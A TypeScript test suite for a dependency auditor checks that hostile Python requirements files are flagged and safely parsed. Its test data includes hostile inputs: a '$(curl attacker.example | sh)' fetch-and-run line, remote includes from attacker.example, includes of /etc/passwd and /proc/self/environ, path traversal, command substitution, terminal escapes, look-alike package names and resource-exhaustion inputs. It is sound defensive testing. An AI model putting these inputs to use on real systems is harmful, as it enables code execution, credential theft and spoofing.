import assert from 'node:assert/strict';
import { symlinkSync } from 'node:fs';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import type { Report } from '../../src/contract/report.ts';
import { addFiles, permanentTree } from './folder.ts';
import { auditReport, OUTSIDE } from './measured.ts';

/** Files of one attack; `requirements.txt` is read. Its problems by code, in order; the line `good==1` must be seen. */
interface Attack {
  readonly files: Readonly<Record<string, string | Uint8Array>>;
  readonly codes: readonly string[];
  readonly good?: false;
}

const lines = (text: string | Uint8Array, ...codes: string[]): Attack => ({
  files: { 'requirements.txt': Buffer.concat([Buffer.from(text), Buffer.from('\ngood==1\n')]) },
  codes,
});
const refused = (text: string | Uint8Array): Attack => ({ ...lines(text, 'encoding-invalid'), good: false });
const wrong = (text: string): Attack => lines(text, 'requirement-invalid');
const open = (text: string): Attack => lines(text, 'requirement-undetermined');
const outside = (text: string): Attack => lines(text, 'file-outside');

const ATTACKS: Readonly<Record<string, Attack>> = {
  'an environment variable in an address': lines('a @ https://x/${HOME}/a-1.tar.gz'),
  'an environment variable for the password of an index': lines('--index-url https://${TOKEN}@x/simple'),
  'an environment variable for the host of an index': open('--index-url https://${HOST}/simple'),
  'an environment variable in an include': open('-r ${HOME}/.netrc'),
  'an environment variable in a version': lines('a==${TOKEN}'),
  'an environment variable in a hash': lines('a==1 --hash=sha256:${TOKEN}'),
  'an environment variable for a name': open('${TOKEN}==1'),
  'a remote include over HTTPS': open('-r https://attacker.example/requirements.txt'),
  'a remote include over HTTP': open('-r http://127.0.0.1:1/requirements.txt'),
  'a remote include with a password': open('-r https://user:pass@attacker.example/r.txt'),
  'an include of a file URL': open('-r file:///etc/passwd'),
  'an include of an absolute path': outside('-r /etc/passwd'),
  'an include that goes up': outside('-r ../../../../../../../etc/passwd'),
  'an include that goes up and comes back': outside('--requirement=../../x/../../y.txt'),
  'an include of the environment of the process': outside('-r /proc/self/environ'),
  'an include of a device': outside('-r /dev/zero'),
  'an include of itself': { files: { 'requirements.txt': '-r requirements.txt\ngood==1\n' }, codes: [] },
  'includes in a circle': {
    files: { 'requirements.txt': '-r b.in\n', 'b.in': '-r c.in\ngood==1\n', 'c.in': '-r requirements.txt\n' },
    codes: [],
  },
  'an include of nothing': lines('-r missing.txt', 'file-unreadable'),
  'an include without a name': lines('-r ', 'requirement-invalid'),
  'an include of a folder': {
    files: { 'requirements.txt': '-r sub\ngood==1\n', 'sub/x': '' },
    codes: ['file-not-regular'],
  },
  'an include with a NUL in its name': refused('-r a\0b'),
  'an include with a name of 10,000 characters': lines(`-r ${'a'.repeat(10_000)}`, 'file-unreadable'),
  'an unknown option': wrong('--trust-everything'),
  'an option that runs a program': lines('--config-settings=x=$(id)'),
  'a command of a shell': wrong('$(curl attacker.example | sh)'),
  'a workflow command': wrong('::set-output name=x::y'),
  'a workflow command of the old kind': wrong('?##[add-mask]x'),
  'a terminal escape': wrong('\u001b[31mred'),
  'a window title for the terminal': wrong('a\u001b]0;owned\u0007'),
  'an 8-bit control sequence': wrong('a\u009b31m==1'),
  'text that is written from right to left': wrong('a\u202etxt.exe==1'),
  'an invisible character in a name': wrong('dja\u200bngo==1'),
  'a name in look-alike letters': wrong('djаngo==1'),
  markup: wrong('<script>alert(1)</script>'),
  'brackets without end': wrong(`a${'['.repeat(100_000)}`),
  'parentheses without end in a marker': wrong(`a; ${'('.repeat(100_000)}os_name == 'x'`),
  'a marker of 10,000 clauses': lines(`a==1; ${Array(10_000).fill("os_name == 'x'").join(' or ')}`),
  'a version of 100,000 numbers': lines(`a==${'1.'.repeat(100_000)}1`),
  'a number of 100,000 digits': wrong(`a==${'9'.repeat(100_000)}`),
  '50,000 specifiers': lines(`a${Array(50_000).fill('>=1').join(',')}`),
  '50,000 extras': lines(`a[${Array.from({ length: 50_000 }, (_, i) => `x${i}`).join(',')}]==1`),
  '50,000 hashes': lines(`a==1 ${Array(50_000).fill('--hash=sha256:00').join(' ')}`),
  'a line of a million blanks': lines(`a==1${' '.repeat(1_000_000)}x`, 'requirement-invalid'),
  'a line of a million tabs': wrong(`${'?\t'.repeat(500_000)}`),
  'a line of a million hashes': lines(`a==1${'#'.repeat(1_000_000)}`, 'requirement-invalid'),
  'a line of a million dashes': wrong('-'.repeat(1_000_000)),
  'a line of a million dollars': wrong('${'.repeat(500_000)),
  'a line of a million slashes': wrong(`a @ ${'://'.repeat(333_333)} x`),
  'a million continuations': lines('\\\n'.repeat(500_000)),
  'a continuation without end': { files: { 'requirements.txt': 'good==1\n\\' }, codes: [] },
  'an empty file': { files: { 'requirements.txt': '' }, codes: [], good: false },
  'nothing but comments': { files: { 'requirements.txt': '# a\n'.repeat(100_000) }, codes: [], good: false },
  'carriage returns for line ends': { files: { 'requirements.txt': 'a==1\rgood==1\r' }, codes: [] },
  'a line separator within a line': wrong('a==1\u2028::error::x'),
  'a NUL': refused('a==1\0'),
  'Latin-1': refused(Buffer.from([0x61, 0xe9])),
  'UTF-16 with its mark': {
    files: { 'requirements.txt': Buffer.from('\ufeffa==1\ngood==1\n', 'utf16le') },
    codes: [],
  },
  'UTF-16 that breaks off': refused(Buffer.from('\ufeffa==1', 'utf16le')),
  'a coding line that names UTF-7': refused('# coding: utf-7\na+AD0APQ-1'),
  'UTF-16 without its mark': refused(Buffer.from('a==1', 'utf16le')),
  'an overlong slash': refused(Buffer.from([0xc0, 0xaf])),
  'the name `__proto__`': wrong('__proto__==1'),
  'the name `constructor`': lines('constructor==1'),
  'a password in an address': lines('a @ https://user:pass-word@x/a-1.tar.gz'),
};

describe('a hostile requirements file', () => {
  const names = Object.keys(ATTACKS);
  let report: Report;
  let root: string;
  before(() => {
    root = permanentTree({});
    for (const [i, name] of names.entries()) addFiles(path.join(root, `a${i}`), ATTACKS[name]?.files ?? {});
    const beyond = permanentTree({ 'secret.txt': `${OUTSIDE}==1\n` });
    addFiles(root, {
      'link/requirements.txt': '-r there/secret.txt\ngood==1\n',
      'file/requirements.txt': '-r there\ngood==1\n',
    });
    symlinkSync(beyond, path.join(root, 'link/there'));
    symlinkSync(path.join(beyond, 'secret.txt'), path.join(root, 'file/there'));
    report = auditReport(root);
  });

  const sees = (folder: string) =>
    report.components.some(
      ({ name, locations }) => name === 'good' && locations.some(({ path: at }) => at.startsWith(`${folder}/`)),
    );
  const codes = (folder: string) =>
    report.problems.filter(({ at }) => at?.path.startsWith(`${folder}/`)).map(({ code }) => code);

  for (const [i, [name, { codes: expected, good = true }]] of Object.entries(ATTACKS).entries()) {
    it(`${name}: ${expected.join(', ') || 'read'}, and ${good ? 'the other line is read' : 'no component is guessed'}`, () => {
      assert.deepEqual(codes(`a${i}`), expected);
      assert.equal(sees(`a${i}`), good);
    });
  }

  it('an include through a linked folder out of the repository: both are said, and the other line is read', () => {
    assert.deepEqual(codes('link'), ['link-not-followed', 'file-outside']);
    assert.ok(sees('link'));
  });

  it('an include of a link out of the repository: file-outside, and the other line is read', () => {
    assert.deepEqual(codes('file'), ['file-outside']);
    assert.ok(sees('file'));
  });

  it('no password of an address is told', () => assert.doesNotMatch(JSON.stringify(report), /pass-word|user:pass/));
});
